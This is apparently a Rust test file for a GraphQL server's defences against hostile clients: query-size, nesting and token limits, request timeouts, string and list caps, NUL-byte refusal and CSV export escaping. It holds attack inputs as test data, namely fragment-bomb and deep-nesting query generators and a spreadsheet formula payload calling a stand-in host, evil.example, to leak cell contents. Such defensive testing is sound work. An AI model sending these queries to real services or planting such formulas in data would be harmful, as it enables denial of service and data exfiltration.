//! A hostile client, anonymous or signed in: what a request may cost and what it may store
//! (issue 18, "cheap for strangers").

mod common;

use std::io::Read;
use std::time::{Duration, Instant};

use common::{CREATE_MARKET, TestApp, post_gql};
use passerelle::config::Config;
use passerelle::domain::auth::Role;
use passerelle::graphql::limits::{
    self, LIST_LIMITS, MAX_LIST_ITEMS, MAX_NESTING, MAX_QUERY_NODES, MAX_QUERY_TOKENS,
    MAX_TEXT_CHARS, STRING_LIMITS,
};
use serde_json::{Value, json};

db_tests!(
    fragment_bomb_is_refused_before_validation,
    query_size_at_its_limit,
    slow_request_times_out,
    strings_and_lists_within_their_limits,
    login_email_length,
    nul_bytes_are_refused,
    csv_export_neutralises_formulas,
);

/// `query{me{...F<n>}}` where `Fi` spreads `F(i-1)` twice: 2^n fields once expanded.
fn fragment_bomb(n: usize) -> String {
    let mut q = format!("query{{me{{...F{n}}}}}fragment F0 on User{{id}}");
    for i in 1..=n {
        q.push_str(&format!(
            " fragment F{i} on User{{...F{p} ...F{p}}}",
            p = i - 1
        ));
    }
    q
}

/// The first error's `(code, field, rule)`.
fn refusal(resp: &Value) -> (String, String, String) {
    let ext = &resp["errors"][0]["extensions"];
    let s = |k: &str| ext[k].as_str().unwrap_or("<none>").to_string();
    (s("code"), s("field"), s("rule"))
}

async fn fragment_bomb_is_refused_before_validation(app: &TestApp) {
    let (base, stop) = app.serve(&Config::default()).await;
    let client = reqwest::Client::new();
    // The first request pays for the connection.
    post_gql(&client, &base, None, json!({"query": "{ __typename }"})).await;
    for n in [24, 28] {
        let q = fragment_bomb(n);
        let start = Instant::now();
        let (status, resp) = post_gql(&client, &base, None, json!({ "query": q })).await;
        let took = start.elapsed();
        eprintln!("F{n}: {} bytes, answered {status} in {took:?}", q.len());
        assert_eq!(
            refusal(&resp),
            (
                "BAD_USER_INPUT".into(),
                "query".into(),
                "MAX_QUERY_NODES".into()
            ),
            "{resp}"
        );
        // The bound, with room for 2 busy CI cores: it takes a few milliseconds.
        assert!(took < Duration::from_millis(100), "F{n} took {took:?}");
    }
    // Other cheap shapes: a fragment that spreads itself twice, brackets nested past what the
    // parser's stack stands, fifty thousand aliases (a megabyte the parser would take seconds
    // to read unoptimised).
    let cycle = "query{me{...C}} fragment C on User{...C ...C}";
    let nested = format!(
        "{{ me(x: {}1{}) {{ id }} }}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let aliases = format!(
        "{{ {} }}",
        (0..50_000)
            .map(|i| format!("a{i}:__typename"))
            .collect::<Vec<_>>()
            .join(" ")
    );
    for (name, q, rule) in [
        ("cycle", cycle.to_string(), "<none>"),
        ("nested", nested, "MAX_NESTING"),
        ("aliases", aliases, "MAX_QUERY_TOKENS"),
    ] {
        let start = Instant::now();
        let (_, resp) = post_gql(&client, &base, None, json!({ "query": q })).await;
        eprintln!(
            "{name}: {} bytes, answered in {:?}",
            q.len(),
            start.elapsed()
        );
        let (code, field, got) = refusal(&resp);
        assert_eq!(
            (code.as_str(), field.as_str()),
            ("BAD_USER_INPUT", "query"),
            "{name}: {resp}"
        );
        assert_eq!(got, rule, "{name}: {resp}");
    }
    // `/healthz` answers while two of the largest attacks run.
    let attacks: Vec<_> = (0..2)
        .map(|_| {
            let (client, base) = (client.clone(), base.clone());
            tokio::spawn(async move {
                post_gql(&client, &base, None, json!({"query": fragment_bomb(28)})).await
            })
        })
        .collect();
    let start = Instant::now();
    let health = client.get(format!("{base}/healthz")).send().await.unwrap();
    let took = start.elapsed();
    eprintln!("healthz during two attacks: {took:?}");
    assert_eq!(health.status(), 200);
    assert!(took < Duration::from_millis(100), "healthz took {took:?}");
    for a in attacks {
        let (_, resp) = a.await.unwrap();
        assert_eq!(refusal(&resp).2, "MAX_QUERY_NODES");
    }
    stop.send(()).ok();
}

/// The expanded size is computed from one size per fragment, never by expanding them.
#[test]
fn expanded_size_of_the_bomb_is_exact() {
    for n in [0usize, 1, 2, 10, 24, 28, 30] {
        let doc = async_graphql::parser::parse_query(fragment_bomb(n)).unwrap();
        // F0 is 1 node; Fi is its 2 spreads and twice F(i-1): 3·2^i − 2. The operation adds
        // `me` and its spread; every definition counts once more on its own.
        let f = |i: u32| 3u128 * (1u128 << i) - 2;
        let expected = 2 + f(n as u32) + (0..=n as u32).map(f).sum::<u128>();
        let got = limits::expanded_size(&doc)
            .map_err(|r| r.0.message())
            .unwrap();
        assert_eq!(got as u128, expected, "F{n}");
    }
    // F31 lies 33 selections deep: past the recursion limit, whatever its size.
    let doc = async_graphql::parser::parse_query(fragment_bomb(31)).unwrap();
    let e = limits::expanded_size(&doc).unwrap_err().0;
    assert!(e.message().contains("(query nested too deeply)"));
}

/// GraphiQL's introspection query (graphql-js `getIntrospectionQuery`), the largest a client
/// sends without meaning harm.
const INTROSPECTION: &str = "query IntrospectionQuery { __schema { queryType { name } mutationType { name } subscriptionType { name } types { ...FullType } directives { name description locations args { ...InputValue } } } }
fragment FullType on __Type { kind name description fields(includeDeprecated: true) { name description args { ...InputValue } type { ...TypeRef } isDeprecated deprecationReason } inputFields { ...InputValue } interfaces { ...TypeRef } enumValues(includeDeprecated: true) { name description isDeprecated deprecationReason } possibleTypes { ...TypeRef } }
fragment InputValue on __InputValue { name description type { ...TypeRef } defaultValue }
fragment TypeRef on __Type { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name } } } } } } } }";

/// The limits leave real queries far below them: GraphiQL's introspection and the benchmark's
/// page (the largest query of the test suite measured 61 nodes and about 100 tokens).
#[test]
fn real_queries_are_far_below_the_limits() {
    for q in [INTROSPECTION, passerelle::bench::load::MORNING_PAGE] {
        let doc = async_graphql::parser::parse_query(q).unwrap();
        let nodes = limits::expanded_size(&doc).unwrap();
        let tokens = limits::tokens(q).unwrap();
        eprintln!("{nodes} nodes, {tokens} tokens");
        assert!(
            nodes * 5 < MAX_QUERY_NODES && tokens * 10 < MAX_QUERY_TOKENS,
            "{nodes} {tokens}"
        );
    }
}

/// A query of exactly `nodes` nodes: `__typename @include(if: true)` is four (field,
/// directive, argument, value), a bare `__typename` one.
fn typenames(nodes: usize) -> String {
    format!(
        "{{{}{} }}",
        " __typename @include(if: true)".repeat(nodes / 4),
        " __typename".repeat(nodes % 4)
    )
}

async fn query_size_at_its_limit(app: &TestApp) {
    for nodes in [MAX_QUERY_NODES - 1, MAX_QUERY_NODES] {
        let q = typenames(nodes);
        let doc = async_graphql::parser::parse_query(&q).unwrap();
        assert_eq!(limits::expanded_size(&doc).ok(), Some(nodes));
        // Anonymous, and answered.
        let resp = app.run_as(None, &q, json!({})).await;
        assert!(resp.get("errors").is_none(), "{nodes}: {resp:#}");
        assert_eq!(resp["data"]["__typename"], "QueryRoot");
    }
    let resp = app
        .run_as(None, &typenames(MAX_QUERY_NODES + 1), json!({}))
        .await;
    let ext = &resp["errors"][0]["extensions"];
    assert_eq!(ext["code"], "BAD_USER_INPUT", "{resp:#}");
    assert_eq!(ext["field"], "query");
    assert_eq!(ext["rule"], "MAX_QUERY_NODES");
    assert_eq!(ext["limit"], MAX_QUERY_NODES.to_string());
    assert_eq!(ext["value"], (MAX_QUERY_NODES + 1).to_string());
    assert!(
        resp["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("(query too large)")
    );
    // Nesting: MAX_NESTING brackets are read (`__typename` ignores arguments), one more is not.
    let nested = |n: usize| {
        format!(
            "{{ __typename(x: {}1{}) }}",
            "[".repeat(n - 2),
            "]".repeat(n - 2)
        )
    };
    let at = app.run_as(None, &nested(MAX_NESTING), json!({})).await;
    assert_eq!(at["data"]["__typename"], "QueryRoot", "{at:#}");
    let over = app.run_as(None, &nested(MAX_NESTING + 1), json!({})).await;
    assert_eq!(refusal(&over).2, "MAX_NESTING", "{over:#}");
    // Tokens, counted before parsing: `{ __typename(x: [0 0 …]) }` is 9 tokens and the zeros.
    // At the limit the text is parsed (and then refused for its nodes), one more is not read.
    let zeros = |tokens: usize| format!("{{ __typename(x: [{}]) }}", " 0".repeat(tokens - 9));
    let at = app.run_as(None, &zeros(MAX_QUERY_TOKENS), json!({})).await;
    assert_eq!(refusal(&at).2, "MAX_QUERY_NODES", "{at:#}");
    let over = app
        .run_as(None, &zeros(MAX_QUERY_TOKENS + 1), json!({}))
        .await;
    assert_eq!(refusal(&over).2, "MAX_QUERY_TOKENS", "{over:#}");
    assert_eq!(
        over["errors"][0]["extensions"]["value"],
        (MAX_QUERY_TOKENS + 1).to_string()
    );
}

async fn slow_request_times_out(app: &TestApp) {
    let timeout = Duration::from_millis(500);
    let config = Config {
        request_timeout: timeout,
        ..Config::default()
    };
    app.user("admin@lent.fr", Role::Admin, None, &[]).await;
    let (issued, _) =
        passerelle::service::auth::login(&app.ctx, "admin@lent.fr", common::PASSWORD, "t")
            .await
            .map_err(|e| e.message())
            .unwrap();
    let (base, stop) = app.serve(&config).await;
    let client = reqwest::Client::new();
    let create = |code: &'static str| {
        json!({"query": "mutation($c: String!) { createTerritory(input: {code: $c, name: \"Lent\", timeZone: \"Indian/Reunion\"}) { code } }",
            "variables": {"c": code}})
    };
    let before = app.count("territory").await;
    // Another writer holds the store: SQLite's single writer, or on PostgreSQL a lock on the
    // table (a long import does the same). The mutation waits for it.
    let hold = app.ctx.db.begin_write().await.unwrap();
    if app.is_postgres() {
        use sea_orm::ConnectionTrait;
        hold.txn
            .execute_unprepared("LOCK TABLE territory IN EXCLUSIVE MODE")
            .await
            .unwrap();
    }
    let start = Instant::now();
    let (status, resp) = post_gql(&client, &base, Some(&issued.secret), create("LENT-1")).await;
    let took = start.elapsed();
    eprintln!("timed out after {took:?}");
    assert_eq!(status, 503, "{resp}");
    assert_eq!(resp["errors"][0]["extensions"]["code"], "TIMEOUT", "{resp}");
    assert!(
        resp["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("(request timed out)")
    );
    assert!(took >= timeout, "{took:?}");
    assert!(took < timeout * 6, "{took:?}");
    drop(hold);
    // The abandoned mutation wrote nothing, and the server goes on: the same request, now
    // unhindered, finishes within the limit.
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(app.count("territory").await, before);
    let (status, resp) = post_gql(&client, &base, Some(&issued.secret), create("LENT-2")).await;
    assert_eq!(status, 200, "{resp}");
    assert_eq!(resp["data"]["createTerritory"]["code"], "LENT-2");
    assert_eq!(app.count("territory").await, before + 1);
    stop.send(()).ok();
}

const ORGS: &str =
    "query($s: String) { organizations(filter: {search: $s}) { edges { node { id } } } }";

async fn strings_and_lists_within_their_limits(app: &TestApp) {
    let w = app.world().await;
    // The default limit, on a string no rule of the domain bounds: a variable...
    let ok = app
        .run(ORGS, json!({"s": "a".repeat(MAX_TEXT_CHARS)}))
        .await;
    assert!(ok.get("errors").is_none(), "{ok:#}");
    let resp = app
        .run(ORGS, json!({"s": "é".repeat(MAX_TEXT_CHARS + 1)}))
        .await;
    let ext = &resp["errors"][0]["extensions"];
    assert_eq!(
        (
            &ext["code"],
            &ext["field"],
            &ext["rule"],
            &ext["limit"],
            &ext["value"]
        ),
        (
            &json!("BAD_USER_INPUT"),
            &json!("search"),
            &json!("MAX_LENGTH"),
            &json!("1000"),
            &json!("1001")
        ),
        "{resp:#}"
    );
    // ... a literal, and a variable's default value.
    let literal = format!(
        "{{ organizations(filter: {{search: \"{}\"}}) {{ edges {{ cursor }} }} }}",
        "a".repeat(MAX_TEXT_CHARS + 1)
    );
    assert_eq!(
        app.err(&literal, json!({})).await.1.as_deref(),
        Some("search")
    );
    let default = format!(
        "query($s: String = \"{}\") {{ organizations(filter: {{search: $s}}) {{ edges {{ cursor }} }} }}",
        "a".repeat(MAX_TEXT_CHARS + 1)
    );
    assert_eq!(
        app.err(&default, json!({})).await.1.as_deref(),
        Some("search")
    );
    // Inside a list of input objects, the innermost field is named, and nothing is written.
    let markets = app.count("market").await;
    let (code, field) = app
        .err(
            CREATE_MARKET,
            json!({"i": {"buyerId": w.buyer, "reference": "LONG-1", "title": "Marché",
                "clauseKind": "EXECUTION_CONDITION", "amountCents": 1000,
                "startDate": "2026-01-01", "endDate": "2026-12-31",
                "lots": [{"number": 1, "title": "Lot"}, {"number": 2, "title": "x".repeat(MAX_TEXT_CHARS + 1)}]}}),
        )
        .await;
    assert_eq!(
        (code.as_str(), field.as_deref()),
        ("BAD_USER_INPUT", Some("title"))
    );
    assert_eq!(app.count("market").await, markets);

    // Lists: 100 items pass (the service folds duplicates), 101 are refused before it runs.
    let fac = app
        .user("fac@limites.fr", Role::Facilitator, None, &[&w.territory])
        .await;
    const PREFS: &str =
        "mutation($i: ReminderPreferencesInput!) { setReminderPreferences(input: $i) { muted } }";
    let prefs =
        |n: usize| json!({"i": {"delivery": "DAILY", "muted": vec!["MONTHLY_STATEMENT"; n]}});
    let resp = app
        .run_as(Some(fac.clone()), PREFS, prefs(MAX_LIST_ITEMS + 1))
        .await;
    assert_eq!(
        refusal(&resp),
        ("BAD_USER_INPUT".into(), "muted".into(), "MAX_ITEMS".into()),
        "{resp:#}"
    );
    assert_eq!(app.count("reminder_preference").await, 0);
    let resp = app.run_as(Some(fac), PREFS, prefs(MAX_LIST_ITEMS)).await;
    assert!(resp.get("errors").is_none(), "{resp:#}");
    assert_eq!(
        resp["data"]["setReminderPreferences"]["muted"],
        json!(["MONTHLY_STATEMENT"])
    );
    // A list with its own cap: hour entries reviewed at once. At 500 the service judges the
    // ids (here, not hour entries); at 501 they are refused before it runs.
    let review = |n: usize| {
        app.run(
            "mutation($i: ReviewHoursInput!) { validateHours(input: $i) { id } }",
            json!({"i": {"entryIds": vec![w.placement.clone(); n]}}),
        )
    };
    let at = refusal(&review(500).await);
    assert_eq!(
        (at.1.as_str(), at.2.as_str()),
        ("entryIds", "<none>"),
        "{at:?}"
    );
    let over = refusal(&review(501).await);
    assert_eq!(
        (over.1.as_str(), over.2.as_str()),
        ("entryIds", "MAX_ITEMS")
    );
}

/// Every exception of the tables names a string or a list input of the schema, so a renamed
/// field cannot silently fall back to the default.
#[test]
fn limit_tables_name_real_inputs() {
    use async_graphql::parser::types::{BaseType, TypeKind, TypeSystemDefinition};
    let doc = async_graphql::parser::parse_schema(passerelle::graphql::sdl()).unwrap();
    let (mut strings, mut lists) = (Vec::new(), Vec::new());
    for def in &doc.definitions {
        let TypeSystemDefinition::Type(t) = def else {
            continue;
        };
        let values: Vec<_> = match &t.node.kind {
            TypeKind::InputObject(o) => o.fields.iter().map(|f| f.node.clone()).collect(),
            TypeKind::Object(o) => o
                .fields
                .iter()
                .flat_map(|f| f.node.arguments.iter().map(|a| a.node.clone()))
                .collect(),
            _ => continue,
        };
        for v in values {
            let name = v.name.node.to_string();
            match &v.ty.node.base {
                BaseType::List(_) => lists.push(name),
                BaseType::Named(n) if n == "String" || n == "ID" => strings.push(name),
                _ => {}
            }
        }
    }
    for (name, _) in STRING_LIMITS {
        assert!(
            strings.iter().any(|s| s == name),
            "{name} is no string input"
        );
    }
    for (name, _) in LIST_LIMITS {
        assert!(lists.iter().any(|s| s == name), "{name} is no list input");
    }
}

const LOGIN: &str =
    "mutation($e: String!, $p: String!) { login(email: $e, password: $p) { token } }";

async fn login_email_length(app: &TestApp) {
    let failures = app.count("login_failure").await;
    let login =
        |email: String| app.run_as(None, LOGIN, json!({"e": email, "p": "mot de passe faux"}));
    // 900 000 characters: refused before the store sees it (PostgreSQL answered INTERNAL).
    let resp = login(format!("{}@x.fr", "a".repeat(900_000))).await;
    assert_eq!(
        refusal(&resp),
        ("BAD_USER_INPUT".into(), "email".into(), "MAX_LENGTH".into()),
        "{resp:#}"
    );
    // 255 bytes: refused; 254 (RFC 5321): an ordinary wrong login, recorded as one.
    let of_len = |n: usize| format!("{}@x.fr", "a".repeat(n - 5));
    let resp = login(of_len(255)).await;
    assert_eq!(refusal(&resp).2, "MAX_LENGTH", "{resp:#}");
    assert_eq!(resp["errors"][0]["extensions"]["limit"], "254");
    assert_eq!(app.count("login_failure").await, failures);
    let resp = login(of_len(254)).await;
    assert_eq!(refusal(&resp).0, "UNAUTHENTICATED", "{resp:#}");
    assert_eq!(app.count("login_failure").await, failures + 1);
}

async fn nul_bytes_are_refused(app: &TestApp) {
    let w = app.world().await;
    let orgs = app.count("organization").await;
    let resp = app.run(ORGS, json!({"s": "a\u{0}b"})).await;
    assert_eq!(
        refusal(&resp),
        ("BAD_USER_INPUT".into(), "search".into(), "<none>".into()),
        "{resp:#}"
    );
    assert!(
        resp["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("NUL")
    );
    let (code, field) = app
        .err(
            common::CREATE_ORG,
            json!({"i": {"name": "BTP\u{0}Sud", "kind": "COMPANY", "territoryId": w.territory}}),
        )
        .await;
    assert_eq!(
        (code.as_str(), field.as_deref()),
        ("BAD_USER_INPUT", Some("name"))
    );
    // A literal: GraphQL writes it `\u0000`.
    let literal = format!(
        "mutation {{ createOrganization(input: {{name: \"BTP\\u0000Nord\", kind: COMPANY, territoryId: \"{}\"}}) {{ id }} }}",
        w.territory
    );
    assert_eq!(
        app.err(&literal, json!({})).await.1.as_deref(),
        Some("name")
    );
    assert_eq!(app.count("organization").await, orgs);
    // An uploaded file's name is stored with the import: the same rule.
    let fac = app
        .user("fac@nul.fr", Role::Facilitator, None, &[&w.territory])
        .await;
    let mut req = passerelle::graphql::prepare(
        async_graphql::Request::new(
            "mutation($f: Upload!) { importHourStatements(file: $f) { id } }",
        )
        .variables(async_graphql::Variables::from_json(json!({"f": null}))),
        &app.ctx,
        Some(fac),
    );
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("heures.csv");
    std::fs::write(&path, "reference;mois;heures\n").unwrap();
    req.set_upload(
        "variables.f",
        async_graphql::UploadValue {
            filename: "heures\u{0}.csv".into(),
            content_type: Some("text/csv".into()),
            content: std::fs::File::open(&path).unwrap(),
        },
    );
    let resp = serde_json::to_value(app.schema.execute(req).await).unwrap();
    assert_eq!(
        refusal(&resp),
        ("BAD_USER_INPUT".into(), "file".into(), "<none>".into()),
        "{resp:#}"
    );
    assert_eq!(app.count("hour_import").await, 0);
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")";

async fn csv_export_neutralises_formulas(app: &TestApp) {
    let w = app.world().await;
    let market = app
        .ok(
            CREATE_MARKET,
            json!({"i": {"buyerId": w.buyer, "reference": "CSV-1", "title": "Marché piégé",
                "clauseKind": "EXECUTION_CONDITION", "amountCents": 1000000,
                "startDate": "2026-01-01", "endDate": "2026-12-31",
                "lots": [{"number": 1, "title": FORMULA, "amountCents": 600000},
                         {"number": 2, "title": "-1+2", "amountCents": 400000}]}}),
        )
        .await["createMarket"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    app.user("fac@csv.fr", Role::Facilitator, None, &[&w.territory])
        .await;
    let (issued, _) =
        passerelle::service::auth::login(&app.ctx, "fac@csv.fr", common::PASSWORD, "t")
            .await
            .map_err(|e| e.message())
            .unwrap();
    let (base, stop) = app.serve(&Config::default()).await;
    let client = reqwest::Client::new();
    let get = |ext: &str| {
        client
            .get(format!(
                "{base}/reports/market/{market}.{ext}?asAt=2026-11-22"
            ))
            .bearer_auth(&issued.secret)
            .send()
    };
    let resp = get("csv").await.unwrap();
    assert_eq!(resp.status(), 200);
    let body = resp.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .flexible(true)
        .has_headers(false)
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    let cells: Vec<&String> = rows.iter().flatten().collect();
    assert!(cells.iter().any(|c| **c == format!("'{FORMULA}")), "{body}");
    assert!(cells.iter().any(|c| *c == "'-1+2"), "{body}");
    // No cell a spreadsheet would evaluate, except numbers.
    for c in &cells {
        let formula = c.starts_with(['=', '+', '@', '\t', '\r'])
            || (c.starts_with('-') && c.replace(',', ".").parse::<f64>().is_err());
        assert!(!formula, "{c:?} in {body}");
    }
    // The lots' amounts stay numbers.
    let lot = rows
        .iter()
        .find(|r| r.get(1).is_some_and(|t| t == "'-1+2"))
        .unwrap();
    assert_eq!(lot[0], "2");
    // The workbook writes text as text: no formula anywhere, the title among shared strings.
    let bytes = get("xlsx").await.unwrap().bytes().await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut strings = String::new();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut xml = String::new();
        f.read_to_string(&mut xml).unwrap();
        if name.starts_with("xl/worksheets/") {
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "{name}: {xml}"
            );
        }
        if name == "xl/sharedStrings.xml" {
            strings = xml;
        }
    }
    assert!(
        strings.contains("<t>=HYPERLINK(\"http://evil.example/?x=\"&amp;A1,\"Cliquez\")</t>"),
        "{strings}"
    );
    stop.send(()).ok();
}
